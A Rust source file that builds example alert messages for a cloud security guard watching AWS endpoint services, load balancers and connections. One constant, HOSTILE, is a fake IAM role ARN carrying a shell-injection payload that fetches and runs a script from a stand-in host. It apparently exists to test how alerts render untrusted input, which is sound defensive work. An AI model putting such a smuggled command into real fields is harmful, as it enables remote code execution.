//! Messages as the guard sends them, from real findings: for `docs/examples`, and for a look at them (`make inbox`).

use std::collections::BTreeSet;

use jiff::SignedDuration;

use super::{
    DBT, UNTRUSTED, at, call_error, change, connection, endpoint, endpoint_service, group_attributes, load_balancer,
    only_finding, origin, policy, region, service, target_group, topology, with_connections, with_policy,
};
use crate::admission::held_by_the_list;
use crate::alerts::connection as known_connection;
use crate::alerts::reconciler::Reconciler;
use crate::alerts::record::Partition;
use crate::alerts::transition::{Kind, Transition};
use crate::alerts::{removal, sample};
use crate::catalogue::{self, evaluate_checks};
use crate::check::{CheckContext, Finding, RememberedConnections};
use crate::checks::visibility_lost;
use crate::config::Policy;
use crate::message::{Banner, Envelope, Message};
use crate::snapshot::{Calls, CrossZoneOverride, Topology};
use crate::trigger::Change;

/// The messages, each with a name.
pub fn examples() -> Vec<(&'static str, Message)> {
    let unsafe_principals = Finding { cause: Some(change_of_principals()), ..principals(&["*"]) };
    let cross_zone = cross_zone();
    let long_ago = |transition: Transition, hours: i64| Transition {
        since: transition.at - SignedDuration::from_hours(hours),
        ..transition
    };
    let resolved = Transition {
        now_true: Some("cross-zone is on for pg".to_owned()),
        since: at(8, 48),
        ..alert(Kind::Resolved, "load-balancer.cross-zone", cross_zone.clone())
    };
    let firing = |check: &str, finding: Finding| of_service(&[alert(Kind::Firing, check, finding)]);
    let mut examples = vec![
        ("firing-critical", firing("service.principals", unsafe_principals)),
        ("firing-warning", firing("connection.untrusted", untrusted())),
        ("held", firing("connection.dbt", held())),
        (
            "reminder",
            of_service(&[long_ago(alert(Kind::Reminder, "load-balancer.cross-zone", cross_zone.clone()), 25)]),
        ),
        ("resolved", of_service(std::slice::from_ref(&resolved))),
        ("notice", of_service(&[alert(Kind::Notice, "connection", connected())])),
        ("several", of_service(&[alert(Kind::Firing, "service.principals", principals(&["*"])), resolved])),
        ("hostile-principal", firing("service.principals", principals(&[HOSTILE]))),
        ("guard", of_guard()),
    ];
    let (service, origin) = (service(1), origin());
    let samples = sample::transitions(&service, &origin.region, at(9, 0));
    examples.extend(
        samples
            .into_iter()
            .take(1)
            .map(|sample| ("test", render(&Partition::Service(service.clone()), &[sample], Some(Banner::Test)))),
    );
    let last = removal::notice(&BTreeSet::from([service]), at(9, 0));
    examples.push(("removal", render(&Partition::Guard, &[last], None)));
    examples
}

/// IAM allows any character from ! to DEL in a path.
const HOSTILE: &str = "arn:aws:iam::999999999999:role/';curl${IFS}evil.example|sh;:'/`x`";

fn alert(kind: Kind, check: &str, finding: Finding) -> Transition {
    let resource = match check {
        "load-balancer.cross-zone" => target_group("pg").arn.to_string(),
        "connection.untrusted" => UNTRUSTED.to_owned(),
        "connection" => endpoint(1).to_string(),
        _ => service(1).to_string(),
    };
    let incident = format!("{}-1773475200", service(1));
    Transition { number: 1, ..Transition::new(kind, (check, &resource), &incident, finding, at(9, 0)) }
}

fn render(partition: &Partition, transitions: &[Transition], banner: Option<Banner<'_>>) -> Message {
    let origin = origin();
    let name = partition.service().map(|_| "postgres");
    let about_connections = transitions.iter().any(|transition| transition.check.starts_with("connection"));
    let function = if about_connections { "connection-acceptor" } else { "drift-watcher" };
    let envelope = Envelope { partition, name, origin: &origin, function, banner };
    let outboxes: Vec<&[Transition]> = transitions.chunks(1).collect();
    Message::new(envelope, &outboxes)
}

fn of_service(transitions: &[Transition]) -> Message {
    render(&Partition::Service(service(1)), transitions, None)
}

fn of_guard() -> Message {
    let call = "ec2:DescribeSecurityGroupRules";
    let calls: Calls = [(call, Some(call_error(call)))].into();
    let finding = only_finding(visibility_lost::of_calls(&calls));
    let firing = alert(Kind::Firing, "visibility.lost", finding);
    let lost = Transition { resource: call.to_owned(), incident: "guard-1773475200".to_owned(), ..firing };
    render(&Partition::Guard, &[lost], None)
}

fn found(check: &str, topology: &Topology, policy: &Policy) -> Finding {
    let check = catalogue::find(check).unwrap();
    only_finding(with_policy(topology, policy, |context: CheckContext<'_>| evaluate_checks(&[check], context)))
}

fn principals(besides_dbt: &[&str]) -> Finding {
    let mut service = endpoint_service();
    if let Some(Ok(allowed)) = &mut service.principals {
        allowed.extend(besides_dbt.iter().map(ToString::to_string));
    }
    found("service.principals", &topology(service, []), &policy())
}

fn change_of_principals() -> Change {
    Change { event_name: "ModifyVpcEndpointServicePermissions".to_owned(), ..change() }
}

fn cross_zone() -> Finding {
    let mut group = target_group("pg");
    group.attributes = group_attributes(CrossZoneOverride::LoadBalancer);
    let mut load_balancer = load_balancer("pg", vec![group]);
    load_balancer.cross_zone = Some(Ok(false));
    found("load-balancer.cross-zone", &topology(endpoint_service(), [load_balancer]), &policy())
}

fn untrusted() -> Finding {
    let requests = with_connections(vec![connection(7, Some(UNTRUSTED), "pendingAcceptance")]);
    found("connection.untrusted", &requests, &policy())
}

/// A request of another customer of dbt.
fn held() -> Finding {
    let requests = vec![connection(1, Some(DBT), "available"), connection(2, Some(DBT), "pendingAcceptance")];
    let topology = with_connections(requests);
    let (check, policy) = (catalogue::find("connection.dbt").unwrap(), policy());
    let held = held_by_the_list(&topology, &policy, &service(1), at(9, 0));
    let remembered = RememberedConnections::default();
    only_finding(with_policy(&topology, &policy, |context| {
        evaluate_checks(&[check], CheckContext { held: &held, remembered: Some(&remembered), ..context })
    }))
}

fn connected() -> Finding {
    let (policy, region) = (policy(), region());
    let run = Reconciler {
        id: "run",
        function: "connection-acceptor",
        policy: &policy,
        stack: None,
        region: &region,
        now: at(9, 0),
        heard_since: None,
    };
    let connected = [connection(1, Some(DBT), "available")];
    known_connection::advance(None, &connected, &connected[0].endpoint, false, &run).unwrap().1.unwrap()
}
